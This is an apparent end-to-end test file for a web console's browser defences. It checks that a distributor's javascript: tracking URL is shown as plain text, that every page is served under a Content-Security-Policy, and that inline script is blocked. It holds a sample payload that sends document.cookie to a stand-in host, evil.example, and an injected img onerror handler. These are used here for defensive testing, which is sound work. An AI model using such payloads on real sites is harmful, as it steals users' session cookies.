"""The console's browser-side defences in a real browser (Debian's Chromium), on SQLite and
PostgreSQL: a distributor's ``javascript:`` tracking URL is shown as text, never as a link;
every page is served under a Content-Security-Policy and breaks none of it (no inline script
or style, nothing from elsewhere), and markup that would run inline script is blocked."""

from __future__ import annotations

import re
from typing import Any

from playwright.async_api import expect
from sqlalchemy import select, update

from disty.db.models import POShipment
from disty.runtime import Runtime
from disty.services import connections, ordering
from disty.services.connections import ConnectionChanges
from disty.services.ordering import Context
from tests.e2e.conftest import add_user, first_sign_in
from tests.e2e.test_console_orders import submit
from tests.fixtures.disty import ServedDisty
from tests.fixtures.ingram import control
from tests.fixtures.simulator import RunningSimulator

EVIL = "javascript:fetch('https://evil.example/?c='+document.cookie)"

# Collects the page's CSP violations; added before any page script runs (by the browser's
# devtools protocol, which the page's policy does not govern).
WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__violations.push(e.violatedDirective + " " + (e.blockedURI || "inline"));
});
"""


async def _connect_without_webhooks(rt: Runtime, simulator: RunningSimulator) -> None:
    """smbi on the simulator, no webhooks: nothing changes the PO behind the test's back."""
    async with rt.sessions() as session:
        await connections.set_connection(
            session, shortcut="smbi", supplier="ingram", country_id=1,
            changes=ConnectionChanges.of(
                client_id=simulator.client_id, client_secret=simulator.client_secret,
                customer_number=simulator.customer_number, base_url=simulator.base_url,
                application_id="APP-TEST", contact_email="buyer@example.com",
            ),
            box=rt.box, public_url="https://disty.example.com",
            grace=rt.settings.webhook_key_grace, allow_custom_urls=True,
        )  # fmt: skip


async def _shipped_with_evil_tracking(rt: Runtime, simulator: RunningSimulator) -> None:
    """A shipped PO (PO-EVIL-1) whose distributor gave a javascript: tracking URL."""
    po = await submit(rt, simulator, "PO-EVIL-1")
    [number] = po.supplier_order_numbers
    control(simulator, "POST", f"/orders/{number}/advance", json={"to": "shipped"})
    async with rt.sessions() as session:
        found = await ordering.find_po(session, shortcut="smbi", po_number="PO-EVIL-1")
        await ordering.refresh(session, found, Context(rt.suppliers, "t"))
        tracked = select(POShipment.id).where(
            POShipment.po_id == found.id, POShipment.tracking_url.is_not(None)
        )
        assert list(await session.scalars(tracked)), "the PO shipped without tracking"
        # Stored as the distributor's order detail could carry it.
        await session.execute(
            update(POShipment).where(POShipment.po_id == found.id).values(tracking_url=EVIL)
        )
        await session.commit()


async def _violations(page: Any) -> list[str]:
    found: list[str] = await page.evaluate("window.__violations || []")
    return found


async def test_no_javascript_links_and_no_policy_violations(
    browser: Any, rt: Runtime, served: ServedDisty, simulator: RunningSimulator
) -> None:
    await _connect_without_webhooks(rt, simulator)
    await _shipped_with_evil_tracking(rt, simulator)
    password = await add_user(rt, "admin@smbi.example", "admin")
    page = await browser.new_page(viewport={"width": 1280, "height": 900})
    await page.add_init_script(WATCH)
    console: list[str] = []
    page.on("console", lambda message: console.append(message.text))
    await first_sign_in(page, served, "admin@smbi.example", password)

    await page.goto(served.url + "/t/smbi/pos/PO-EVIL-1")
    shipments = page.locator("#po-shipments")
    await expect(shipments).to_be_visible()
    assert await shipments.locator("a").count() == 0  # the tracking number, as text
    assert "javascript:" not in await page.content()
    for a in await page.locator("a[href]").all():
        href = await a.get_attribute("href") or ""
        assert not href.strip().lower().startswith("javascript:"), href

    pages = [
        "/t/smbi",
        "/t/smbi/products",
        "/t/smbi/pos",
        "/t/smbi/pos/PO-EVIL-1",
        "/t/smbi/quotes",
        "/t/smbi/returns",
        "/t/smbi/suppliers/ingram/1",
        "/t/smbi/webhooks",
        "/password",
    ]
    for path in pages:
        answer = await page.goto(served.url + path)
        assert answer is not None
        assert answer.status == 200, path
        policy = await answer.header_value("content-security-policy") or ""
        assert "script-src 'self'" in policy, path
        assert await _violations(page) == [], path
    assert [m for m in console if "Content Security Policy" in m] == []

    # The policy is there and watched: markup that would run inline script is blocked.
    await page.evaluate(
        """document.body.insertAdjacentHTML(
             "beforeend", '<img src="/static/none.png" onerror="window.ran = 1">')"""
    )
    # (page.evaluate, not wait_for_function: that evaluates strings inside the page, which
    # this very policy forbids.)
    for _ in range(100):
        if await _violations(page):
            break
        await page.wait_for_timeout(50)
    assert any("script-src" in v for v in await _violations(page)), await _violations(page)
    assert await page.evaluate("window.ran") is None
    await page.close()


async def test_the_sign_in_page_breaks_no_policy(browser: Any, served: ServedDisty) -> None:
    page = await browser.new_page()
    await page.add_init_script(WATCH)
    answer = await page.goto(served.url + "/login")
    assert answer is not None
    policy = await answer.header_value("content-security-policy") or ""
    assert re.search(r"frame-ancestors 'none'", policy)
    await expect(page.get_by_label("E-mail address")).to_be_visible()
    assert await _violations(page) == []
    await page.close()
